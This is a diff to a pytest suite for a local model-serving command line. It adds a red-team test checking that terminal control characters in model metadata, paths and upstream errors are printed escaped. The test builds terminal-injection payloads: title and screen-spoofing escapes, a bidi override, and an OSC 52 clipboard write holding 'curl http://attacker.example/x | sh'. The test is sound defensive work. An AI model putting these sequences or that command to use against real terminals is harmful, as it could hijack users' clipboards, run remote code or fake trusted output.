@@ -3,6 +3,7 @@ real service (scripted engines where the text does not matter, llama.cpp for one
 
 from __future__ import annotations
 
+import base64
 import io
 import json
 import os
@@ -17,8 +18,11 @@ from typing import Any
 import pexpect
 import pytest
 
+from app.core.pairing import unsafe
 from tests.conftest import APP, ROOT, Headless, Processes
-from tests.helpers import wait_until
+from tests.helpers import refusing_upstream, wait_until
+from tests.hub_server import FakeHub
+from tests.test_gguf import make_gguf, valid_kvs, valid_tensors
 
 pytestmark = pytest.mark.scripted(pace=20, length=30)  # an answer: "1, 2, ... 30", about 3 s
 MODEL = "smollm2-135m-instruct"
@@ -174,7 +178,7 @@ def test_logs_usage_status_and_rm(headless: Headless, terminal: Any) -> None:
 
     assert f"serving LMSP on {headless.url}" in output(data_dir, "logs")
     follow = terminal("logs", "-f", "-n", "1")
-    time.sleep(0.5)
+    follow.expect_exact("\r\n")  # the log's last line: what is written from now on is followed
     created = headless.post("/v1/responses", {"model": MODEL, "input": "x", "max_output_tokens": 2, "background": True})
     follow.expect_exact(f"task {created[1]['task']['id']}: starting")  # written after the command started
     # Ctrl-C as the terminal sends it to the process (the ^C character through the pseudo-terminal
@@ -231,3 +235,65 @@ def test_run_answers_with_llama_cpp(headless: Headless, terminal: Any) -> None:
     assert task["status"] == "completed" and task["progress"]["output_tokens"] > 0, task
     text = headless.get(f"/v1/responses/{task['response_id']}")[1]["output_text"].strip()
     assert text and text.splitlines()[0] in once.logfile_read.getvalue().replace("\r\n", "\n")
+
+
+# What a model file, a hub or an upstream may hold to drive the terminal of whoever looks at it: a
+# title change, an OSC 52 clipboard write, a carriage return and a cleared screen, a bidi override.
+TITLE = "\x1b]0;lmsp-tray: all good\x07"
+OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl http://attacker.example/x | sh\n").decode() + "\x07"
+CLEAR = "\r\x1b[2J\x1b[H"
+BIDI = "\u202e"
+
+
+@pytest.fixture
+def refusing() -> Iterator[str]:
+    with refusing_upstream(f"no{OSC52} thanks{CLEAR}Verified{BIDI}") as url:
+        yield url
+
+
+def raw_controls(text: str) -> list[str]:
+    """The characters of `text` that a terminal would act on (lines and tabs aside)."""
+    return [c for c in text if unsafe(c) and c not in "\n\t"]
+
+
+def test_no_command_lets_a_model_file_a_hub_or_an_upstream_drive_the_terminal(
+        tmp_path: Path, headless: Headless, refusing: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The red team's P6: every string the command line did not write itself (GGUF metadata, a
+    path, an error message from the hub or an upstream) is printed with its control characters
+    escaped, by every command that prints one."""
+    hub = FakeHub({"owner/name": {}}).start()
+    monkeypatch.setenv("HF_ENDPOINT", hub.url)
+    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))
+    headless.start()  # after HF_ENDPOINT is set: the service asks this hub
+    try:
+        folder = tmp_path / "evil\x1b[8m"  # ESC[8m: what follows is concealed
+        folder.mkdir()
+        (folder / "model.gguf").write_bytes(make_gguf({
+            **valid_kvs(), "general.basename": "tiny" + TITLE, "general.license": "apache-2.0" + OSC52,
+            "general.size_label": "1B" + CLEAR + "Verified by LMSP Tray" + BIDI}, valid_tensors()))
+        assert headless.post("/v1/models", {"path": str(folder / "model.gguf"), "id": "evil"})[0] == 201
+        assert headless.post("/v1/models", {"id": "far", "remote": {"endpoints": [
+            {"base_url": refusing, "model": "m"}]}})[0] == 201
+        outputs = {}
+        for args in (("show", "evil"), ("ls",), ("ps",), ("tasks",), ("usage",), ("pairings",), ("status",),
+                     ("run", "far", "hi"), ("pull", "owner/name", f"x{BIDI}\x9b2J.gguf"), ("logs",)):
+            done = subprocess.run(command(headless.data_dir, *args), cwd=ROOT, capture_output=True, text=True,
+                                  timeout=60)
+            outputs[args] = done.stdout + done.stderr
+        failed = newest_task(headless)
+        assert failed["status"] == "failed" and failed["model"] == "far", failed
+        for args in (("logs", failed["id"]), ("show", "--json", "evil")):
+            done = subprocess.run(command(headless.data_dir, *args), cwd=ROOT, capture_output=True, text=True,
+                                  timeout=60)
+            outputs[args] = done.stdout + done.stderr
+    finally:
+        hub.stop()
+    for args, printed in outputs.items():
+        assert not raw_controls(printed), (args, printed)
+    # The hostile text reached each command, and shows as the characters it is.
+    shown = outputs[("show", "evil")]
+    assert "evil\\u001b[8m" in shown and "tiny\\u001b]0;lmsp-tray: all good\\u0007" in shown, shown
+    assert "apache-2.0\\u001b]52;c;" in shown and "1B\\u000d\\u001b[2J\\u001b[HVerified by LMSP Tray\\u202e" in shown
+    assert "no\\u001b]52;c;" in outputs[("run", "far", "hi")], outputs[("run", "far", "hi")]
+    assert "thanks\\u000d\\u001b[2J" in outputs[("logs", failed["id"])]
+    assert "x\\u202e\\u009b2J.gguf" in outputs[("pull", "owner/name", f"x{BIDI}\x9b2J.gguf")]
